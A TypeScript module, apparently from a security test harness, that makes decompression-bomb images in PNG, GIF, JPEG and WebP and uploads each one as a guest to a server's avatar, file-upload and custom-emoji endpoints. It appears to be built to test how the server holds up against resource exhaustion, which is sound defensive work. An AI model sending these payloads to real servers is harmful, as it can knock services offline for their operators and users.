/** Pictures that are small on the wire and large once they are decoded, in each format that the server accepts. */
import type { Attack } from "./attack.ts";
import { gifBomb, jpegBomb, pngBomb, webpBomb } from "./decompression-bombs.ts";
import type { Request } from "./http-client.ts";

const MEBIBYTE = 2 ** 20;

const bombs: readonly (readonly [string, Buffer])[] = [
  ["forty zTXt chunks.png", pngBomb("zTXt", 40, 16 * MEBIBYTE)],
  ["forty iTXt chunks.png", pngBomb("iTXt", 40, 16 * MEBIBYTE)],
  ["forty iCCP chunks.png", pngBomb("iCCP", 40, 16 * MEBIBYTE)],
  ["20,000 frames.gif", gifBomb(20_000, 4000)],
  ["20,000 lines.jpeg", jpegBomb(20_000)],
  ["16,383 lines.webp", webpBomb(16_383)],
];

const file = (path: string, name: string, bytes: Buffer): Request => ({
  method: "POST",
  path: `/api/v1${path}`,
  file: { name, bytes },
});

export const pictureAttacks: readonly Attack[] = bombs.flatMap(([name, bytes], index): Attack[] => [
  { name: `avatar of ${name}`, from: "guest", request: () => file("/users/me/avatar", name, bytes) },
  {
    name: `upload of ${name}`,
    from: "guest",
    request: (round) => file("/user_uploads", `${round} ${name}`, bytes),
  },
  { name: `emoji of ${name}`, from: "guest", request: () => file(`/realm/emoji/bomb${index}`, name, bytes) },
]);
